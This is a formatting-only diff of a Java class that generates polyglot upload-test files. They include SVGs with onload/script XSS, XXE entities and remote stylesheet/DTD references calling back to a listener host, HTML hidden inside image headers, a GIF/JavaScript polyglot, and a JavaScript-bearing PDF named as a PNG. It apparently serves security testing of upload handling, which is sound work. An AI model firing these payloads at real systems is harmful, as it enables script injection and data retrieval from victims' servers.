@@ -67,25 +67,35 @@ public final class Polyglots {
         var files = new ArrayList<File>();
         var evil = "document.title='RAN';alert(1)";
         for (var inner : DRAWINGS)
-            files.add(text("drawing.svg", drawing("", inner).replace("EVIL", evil).replace("AT", listener)));
+            files.add(
+                    text("drawing.svg", drawing("", inner).replace("EVIL", evil).replace("AT", listener)));
         for (var before : List.of(
                 "<?xml version='1.0'?><?xml-stylesheet href='http://AT/p/18' type='text/xsl'?>",
                 "<?xml-stylesheet href='javascript:EVIL'?>",
                 "<!DOCTYPE svg [<!ENTITY x SYSTEM 'http://AT/p/19'>]>",
                 "<!DOCTYPE svg PUBLIC '-//W3C//DTD SVG 1.1//EN' 'http://AT/p/20'>",
                 "<!--><script>EVIL</script>-->"))
-            files.add(text("drawing.svg", drawing(before, "<rect width='9' height='9'/>").replace("EVIL", evil).replace("AT", listener)));
+            files.add(text(
+                    "drawing.svg",
+                    drawing(before, "<rect width='9' height='9'/>")
+                            .replace("EVIL", evil)
+                            .replace("AT", listener)));
         var page = "<html><script>" + evil + "</script><img src='http://" + listener + "/p/21'></html>";
         for (var format : List.of("png", "jpg", "gif")) {
             var picture = picture(format);
             files.add(new File("picture.html", join(picture, page.getBytes(StandardCharsets.UTF_8))));
             files.add(new File("picture." + format, join(page.getBytes(StandardCharsets.UTF_8), picture)));
-            files.add(new File("picture.svg", join(picture, drawing("", "<script>" + evil + "</script>").getBytes(StandardCharsets.UTF_8))));
+            files.add(new File(
+                    "picture.svg",
+                    join(picture, drawing("", "<script>" + evil + "</script>").getBytes(StandardCharsets.UTF_8))));
         }
         files.add(text("picture.gif", "GIF89a/*" + "\0".repeat(8) + "*/=0;" + evil + "//"));
         files.add(text("picture.png", "%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj"));
         files.add(text("picture.png", page));
-        files.add(text("picture.png", "<?xml version='1.0'?><html xmlns='http://www.w3.org/1999/xhtml'><script>" + evil + "</script></html>"));
+        files.add(text(
+                "picture.png",
+                "<?xml version='1.0'?><html xmlns='http://www.w3.org/1999/xhtml'><script>" + evil
+                        + "</script></html>"));
         files.add(text("favicon.ico", "\0\0\u0001\0\u0001\0" + page));
         files.add(text("picture.webp", "RIFF\u0010\0\0\0WEBPVP8 " + page));
         files.add(text("picture.bmp", "BM" + page));
@@ -94,7 +104,8 @@ public final class Polyglots {
     }
 
     private static String drawing(String before, String inner) {
-        return before + "<svg xmlns='http://www.w3.org/2000/svg' width='64' height='64' viewBox='0 0 64 64' onload='EVIL'>"
+        return before
+                + "<svg xmlns='http://www.w3.org/2000/svg' width='64' height='64' viewBox='0 0 64 64' onload='EVIL'>"
                 + "<rect width='4' height='4'/>" + inner + "</svg>";
     }
 
